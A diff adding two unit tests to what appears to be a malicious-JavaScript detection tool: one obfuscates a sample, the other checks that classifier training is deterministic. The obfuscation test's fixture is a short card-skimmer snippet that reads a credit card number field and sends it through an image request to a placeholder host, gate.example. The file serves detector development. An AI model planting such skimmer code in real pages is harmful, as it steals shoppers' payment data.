@@ -126,3 +126,41 @@ def test_nearest_version_stays_in_the_major() -> None:
     assert nearest_version("5.2.0", versions) == "5.2.1"
     assert nearest_version("5.9.0", versions) == "5.3.0"
     assert nearest_version("7.0.0", versions) is None
+
+
+def test_lite_obfuscation_renames_splits_and_still_parses() -> None:
+    from bastion.scripts.datagen.lite_obf import lite_obfuscate
+
+    rng = random.Random(11)
+    code = (
+        "var collected = document.getElementById('billing_cc_number').value;\n"
+        "function sendIt(payload) { new Image().src = 'https://gate.example/c?d=' + payload; }\n"
+        "sendIt(collected);\n"
+    )
+    out = lite_obfuscate(code, rng)
+    assert "collected" not in out and "sendIt" not in out  # declared names renamed
+    assert "document" in out  # globals kept
+    assert parse(out.encode()).errors == 0
+
+
+def test_training_is_deterministic() -> None:
+    from dataclasses import replace
+
+    from bastion.scripts.train import TrainConfig, fit
+
+    rng = random.Random(0)
+    texts, items = [], []
+    makers = [
+        ("magecart", skimmers.generate),
+        ("benign", benign.generate),
+        ("malware", malware.generate),
+    ]
+    for n, (label, gen) in enumerate(makers * 4):
+        texts.append(gen(rng).encode())
+        items.append(Item(f"i{n}", texts[-1], label, f"g{n}", "generated"))
+    bags = featurize_items(texts)
+    config = replace(TrainConfig(), epochs=1, batch_size=4, hidden=4)
+    idx = np.arange(len(items), dtype=np.int64)
+    first = fit(bags, items, idx, config, log=lambda m: None)
+    second = fit(bags, items, idx, config, log=lambda m: None)
+    assert first.to_bytes() == second.to_bytes()
